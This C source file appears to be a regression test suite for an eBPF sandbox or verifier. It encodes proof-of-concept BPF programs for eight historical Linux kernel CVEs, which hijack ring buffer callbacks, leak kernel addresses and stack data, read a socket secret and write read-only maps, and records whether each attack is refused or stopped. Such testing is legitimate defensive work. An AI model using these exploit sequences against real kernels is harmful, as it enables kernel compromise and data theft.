/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/* Defects by which helpers got what was not meant for them, or programs saw what was not for them. */
#include <sys/mman.h>
#include <unistd.h>
#include <bpf/bpf.h>

#include "../check.h"
#include "history.h"

#define MARK	0x0ddba11c0ffeeull
#define PAGE	4096

static int ring_map(u32 pages)
{
	int ring = bpf_map_create(BPF_MAP_TYPE_RINGBUF, "moat_attack", 0, 0, pages * PAGE, NULL);

	CHECK(ring >= 0, "there is no ring buffer");
	return ring;
}

/* Records ------------------------------------------------------------------------------------- */

/*
 * A record is released by an address inside it.  The words in front of that, the program's own, are taken for the record's
 * header, which says where the ring is: at the start of this page of the record, where what wakes readers is of our choice.
 */
static bool cve_2021_4204(struct attempt *a)
{
	const s32 fake = PAGE - 8, inside = fake + 512;
	u64 was = prey("reached");
	int ring = ring_map(4);

	put(LD_MAP(1, ring), MOV_K(2, 2 * PAGE), MOV_K(3, 0), CALL(BPF_FUNC_ringbuf_reserve));
	put(JMP_K(BPF_JNE, 0, 0, 2), MOV_K(0, 1), EXIT);
	put(MOV_X(8, 0), LDDW(1, prey("reach.at")), STX(BPF_DW, 8, 1, (s16)(fake + (s32)prey("ring.func"))));
	put(MOVE(1, 8, inside + 8), MOV_K(2, BPF_RB_FORCE_WAKEUP), CALL(BPF_FUNC_ringbuf_discard));
	attempt_run(a);
	close(ring);
	return prey("reached") != was;
}

/*
 * The user who reads a ring says how far he has read, and he may lie: two records of three quarters of the ring overlap, and
 * the second one holds the header of the first.  Changed there, the ring is at the page that the user writes.
 */
static bool cve_2024_41009(struct attempt *a)
{
	const u32 bytes = 3 * PAGE, header = 4 * PAGE - (bytes + 8) - 8;
	u64 was = prey("reached"), reach = prey("reach.at");
	int ring = ring_map(4);
	u8 *page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, ring, 0);

	if (!CHECK(page != MAP_FAILED, "the position of a ring's reader cannot be mapped"))
		return false;
	*(volatile u64 *)page = bytes;
	memcpy(page + prey("ring.func"), &reach, 8);
	put(LD_MAP(1, ring), MOV_K(2, (s32)bytes), MOV_K(3, 0), CALL(BPF_FUNC_ringbuf_reserve));
	put(JMP_K(BPF_JNE, 0, 0, 2), MOV_K(0, 1), EXIT, MOV_X(8, 0));
	put(LD_MAP(1, ring), MOV_K(2, (s32)bytes), MOV_K(3, 0), CALL(BPF_FUNC_ringbuf_reserve));
	put(JMP_K(BPF_JNE, 0, 0, 5), MOV_X(1, 8), MOV_K(2, 0), CALL(BPF_FUNC_ringbuf_discard), MOV_K(0, 1), EXIT);
	put(ST(BPF_W, 0, (s16)header, (s32)bytes), ST(BPF_W, 0, (s16)(header + 4), 2));
	put(MOV_X(1, 0), MOV_K(2, BPF_RB_NO_WAKEUP), CALL(BPF_FUNC_ringbuf_submit));
	put(MOV_X(1, 8), MOV_K(2, BPF_RB_FORCE_WAKEUP), CALL(BPF_FUNC_ringbuf_submit));
	attempt_run(a);
	munmap(page, PAGE);
	close(ring);
	return prey("reached") != was;
}

/* Addresses, contexts --------------------------------------------------------------------------- */

/* AND with -1 that fetches: the pointer on the stack stays, and becomes a number. */
static bool cve_2022_0264(struct attempt *a)
{
	put(STX(BPF_DW, 10, 6, -8), MOV_K(1, -1), ATOM(BPF_DW, BPF_AND | BPF_FETCH, 10, 1, -8));
	put(LDX(BPF_DW, 2, 10, -8), STX(BPF_DW, 6, 2, 0));
	attempt_run(a);
	return found_address(a, 1);
}

/* A context that is not where it was: its socket is then what the program has in the real one's control block. */
static bool cve_2020_0430(struct attempt *a)
{
	u64 sock = prey("secret.at") - prey("sock.cookie");
	s16 cb = offsetof(struct __sk_buff, cb);

	put(MOV_K(1, (s32)sock), STX(BPF_W, 7, 1, cb), MOV_K(1, (s32)(sock >> 32)), STX(BPF_W, 7, 1, (s16)(cb + 4)));
	put(MOVE(1, 7, (s32)(prey("skb.cb") - prey("skb.sk"))), CALL(BPF_FUNC_get_socket_cookie), STX(BPF_DW, 6, 0, 0));
	attempt_run(a);
	return a->out[0] == prey("secret");
}

/* Numbers may not be added to a pointer to flow keys, which lie on the kernel's stack. */
static bool cve_2024_26589(struct attempt *a)
{
	s16 i, n = 0;
	u32 at;

	for (at = 0; at < 8; at++) {
		history_feed(a, at, 64 + at * 48);
		put(LDX(BPF_DW, 1, 7, offsetof(struct __sk_buff, flow_keys)), LDX(BPF_DW, 2, 6, FED(at)));
		put(ALU64_K(BPF_AND, 2, 0x1f8), ALU64_X(BPF_ADD, 1, 2));
		for (i = 0; i < 6; i++, n++)
			put(LDX(BPF_DW, 2, 1, (s16)(8 * i)), STX(BPF_DW, 6, 2, (s16)(8 * n)));
	}
	attempt_run(a);
	return found_address(a, 48);
}

/* Maps --------------------------------------------------------------------------------------------- */

/*
 * Helpers of ring buffers took other maps, too: a trie has its first node where the other has the ring.  Nodes hold what the
 * user puts there, key and value; the head of a node is taken for that of the ring.
 */
static bool cve_2021_34866(struct attempt *a)
{
	enum { HEAD = 40, BYTES = 5 * PAGE, MASK = 56 };
	LIBBPF_OPTS(bpf_map_create_opts, opts, .map_flags = BPF_F_NO_PREALLOC);
	int trie = bpf_map_create(BPF_MAP_TYPE_LPM_TRIE, "moat_attack", 12, BYTES, 1, &opts);
	struct { u32 bits; u8 data[8]; } key = { .bits = 64 };
	u64 was = prey("reached"), reach = prey("reach.at"), mask = PAGE - 1;
	static u8 value[BYTES];

	/* In a debug kernel locks are longer; there no attack is to work. */
	CHECK(prey("ring.func") == HEAD || !access("/sys/kernel/debug/kmemleak", F_OK),
	      "the function of a ring is not where a trie's key is");
	memcpy(key.data, &reach, 8);
	memcpy(value + MASK - HEAD - 8, &mask, 8);
	CHECK(trie >= 0 && !bpf_map_update_elem(trie, &key, value, BPF_ANY), "there is no trie");
	put(ST(BPF_DW, 10, -8, 0), LD_MAP(1, trie), MOVE(2, 10, -8), MOV_K(3, 8), MOV_K(4, BPF_RB_FORCE_WAKEUP));
	put(CALL(BPF_FUNC_ringbuf_output));
	attempt_run(a);
	close(trie);
	return prey("reached") != was;
}

/* Into a map that programs may only read: @call has a helper write to R3's or R4's place, where its value is. */
static bool write_constant(struct attempt *a, void (*call)(struct attempt *a, int map))
{
	u64 value[VALUE_WORDS];
	int map = attack_map(BPF_F_RDONLY_PROG, MARK);

	call(a, map);
	attempt_run(a);
	attack_value(map, value);
	close(map);
	return value[0] != MARK;
}

static void call_strtol(struct attempt *a, int map)
{
	(void)a;
	put(ST(BPF_DW, 10, -8, '7'), MOVE(1, 10, -8), MOV_K(2, 2), MOV_K(3, 0), LD_VALUE(4, map, 0));
	put(CALL(BPF_FUNC_strtol));
}

/* Where results of fixed size go was not looked at as something that is written. */
static bool cve_2024_49861(struct attempt *a)
{
	return write_constant(a, call_strtol);
}

static void call_load(struct attempt *a, int map)
{
	history_feed(a, 0, 8);
	put(LDX(BPF_DW, 4, 6, FED(0)), ALU64_K(BPF_AND, 4, 7), ALU64_K(BPF_ADD, 4, 1));
	put(MOV_X(1, 7), MOV_K(2, 0), LD_VALUE(3, map, 0), CALL(BPF_FUNC_skb_load_bytes));
}

/* The same, where the size is not constant. */
static bool cve_2024_50164(struct attempt *a)
{
	return write_constant(a, call_load);
}

#define FILTER	BPF_PROG_TYPE_SOCKET_FILTER
#define FLOW	BPF_PROG_TYPE_FLOW_DISSECTOR

const struct history history_objects[] = {
	{ "2020-0430", "a moved context passed to a helper", "reads a secret", NULL, FILTER, cve_2020_0430,
	  HISTORY_REFUSED, HISTORY_HARMLESS, "the gate supplies the context" },
	{ "2021-4204", "a record released by an address inside it", "calls a function of the kernel", NULL, FILTER,
	  cve_2021_4204, HISTORY_REFUSED, HISTORY_STOPPED, NULL },
	{ "2021-34866", "helpers of rings took other maps", "calls a function of the kernel", "CAP_BPF", FILTER, cve_2021_34866,
	  HISTORY_REFUSED, HISTORY_REFUSED, NULL },
	{ "2022-0264", "an atomic made a number of a pointer", "tells an address of the kernel", NULL, FILTER, cve_2022_0264,
	  HISTORY_REFUSED, HISTORY_HARMLESS, "the program has no address of the kernel" },
	{ "2024-26589", "a number added to a pointer to flow keys", "reads the kernel's stack", "CAP_BPF, CAP_NET_ADMIN", FLOW,
	  cve_2024_26589, HISTORY_REFUSED, HISTORY_HARMLESS, "the keys that the program has are a copy in its slot" },
	{ "2024-41009", "records that overlap", "overwrites a record's header", NULL, FILTER, cve_2024_41009,
	  HISTORY_HARMLESS, HISTORY_HARMLESS, "a record goes back with the header that it was issued with" },
	{ "2024-49861", "a result written to a constant map", "overwrites a constant map", NULL, FILTER, cve_2024_49861,
	  HISTORY_REFUSED, HISTORY_STOPPED, NULL },
	{ "2024-50164", "bytes of varying number written to one", "overwrites a constant map", NULL, FILTER, cve_2024_50164,
	  HISTORY_REFUSED, HISTORY_STOPPED, NULL },
	{ NULL, NULL, NULL, NULL, 0, NULL, 0, 0, NULL },
};
